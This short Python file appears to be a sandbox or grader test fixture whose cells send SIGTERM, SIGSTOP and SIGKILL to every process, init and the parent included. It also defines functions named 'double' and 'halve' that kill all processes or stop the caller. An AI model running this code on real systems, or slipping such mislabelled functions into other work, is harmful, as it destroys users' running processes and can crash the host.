"""Send signals to every process that there is, the first one and the parent included."""
# %% before answer
import os
import signal

for number in (signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
    for pid in [1, os.getppid(), 0, *range(2, 300)]:
        if pid in (0, os.getpid()):
            continue
        try:
            os.kill(pid, number)
        except OSError:
            pass
# %% answer
os.kill(-1, signal.SIGKILL)
# %% double
def double(x):
    os.kill(-1, signal.SIGKILL)
# %% halve
def halve(x):
    os.kill(os.getpid(), signal.SIGSTOP)
